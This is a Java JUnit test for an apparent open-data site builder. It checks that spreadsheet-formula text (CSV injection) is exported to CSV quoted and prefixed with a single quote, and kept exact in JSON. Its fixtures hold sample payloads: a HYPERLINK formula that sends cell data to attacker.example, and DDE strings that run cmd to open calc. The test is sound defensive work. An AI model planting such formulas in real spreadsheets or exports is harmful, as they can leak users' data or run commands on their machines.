package fr.imt.portal.opendata;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvParser;
import fr.imt.portal.CommandRun;
import fr.imt.portal.TestSites;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HashMap;
import java.util.List;
import java.util.Map;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Texts that a spreadsheet would run as formulas (OWASP's "CSV injection") reach the CSV files
 * inert: a single quote before them, the cell in double quotes; the JSON files keep them exactly.
 */
class CsvInjectionTest {

    @TempDir
    Path tmp;

    /** Action texts as an editor (or a pasted spreadsheet) might write them, by action number. */
    private static final Map<Integer, String> HOSTILE = Map.of(
            1, "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Details\")",
            2, "@SUM(1+1)*cmd|' /C calc'!A0",
            3, "-2+3+cmd|' /C calc'!A0");
    private static final Map<Integer, String> HOSTILE_FR = Map.of(
            1, "+1+1",
            2, "\t=1+1",
            3, "-1+1");

    @Test
    void formulaTextsAreQuotedAndPrefixedInTheCsvAndExactInTheJson() throws IOException {
        Path source = TestSites.fixture("valid", tmp);
        for (int number : HOSTILE.keySet()) {
            Path action = source.resolve("content/hrs4r/actions/0" + number + ".yaml");
            String yaml = Files.readString(action).replaceFirst("(?m)^text: .*$", java.util.regex.Matcher.quoteReplacement(
                    "text: {fr: " + yamlQuoted(HOSTILE_FR.get(number)) + ", en: " + yamlQuoted(HOSTILE.get(number)) + "}"));
            Files.writeString(action, yaml);
        }
        Path out = tmp.resolve("site");
        CommandRun run = CommandRun.of("build", "--source", source.toString(), "--out", out.toString(), "--today", "2026-11-20");
        assertEquals(0, run.exitCode(), run.err());

        JsonNode data = new ObjectMapper().readTree(out.resolve("data/actions.json").toFile());
        JsonNode records = data.get("records");
        // The CSV's columns are the JSON's fields, in their order.
        List<String> fields = new java.util.ArrayList<>();
        data.get("fields").forEach(f -> fields.add(f.get("name").asText()));
        for (Map.Entry<String, Map<Integer, String>> lang : Map.of("en", HOSTILE, "fr", HOSTILE_FR).entrySet()) {
            byte[] bytes = Files.readAllBytes(out.resolve("data/actions." + lang.getKey() + ".csv"));
            String raw = new String(bytes, 3, bytes.length - 3, StandardCharsets.UTF_8);
            List<String[]> rows;
            try (MappingIterator<String[]> it = new CsvMapper().enable(CsvParser.Feature.WRAP_AS_ARRAY)
                    .readerFor(String[].class).readValues(raw)) {
                rows = it.readAll();
            }
            Map<String, String> byNumber = new HashMap<>();
            for (String[] row : rows.subList(1, rows.size())) {
                byNumber.put(row[fields.indexOf("number")], row[fields.indexOf("text")]);
            }
            for (Map.Entry<Integer, String> hostile : lang.getValue().entrySet()) {
                String exact = hostile.getValue();
                assertEquals("'" + exact, byNumber.get(String.valueOf(hostile.getKey())),
                        "a spreadsheet shows the text, never runs it (" + lang.getKey() + ")");
                assertTrue(raw.contains("\"'" + exact.replace("\"", "\"\"") + "\""), "the cell is quoted: " + exact);
                JsonNode record = findByNumber(records, hostile.getKey());
                assertEquals(exact, record.get("text").get(lang.getKey()).asText(), "the JSON keeps the exact text");
            }
        }
    }

    private static JsonNode findByNumber(JsonNode records, int number) {
        for (JsonNode r : records) {
            if (r.get("number").asInt() == number) {
                return r;
            }
        }
        throw new AssertionError("no action " + number + " in actions.json");
    }

    private static String yamlQuoted(String text) {
        return "\"" + text.replace("\\", "\\\\").replace("\"", "\\\"").replace("\t", "\\t").replace("\r", "\\r") + "\"";
    }
}
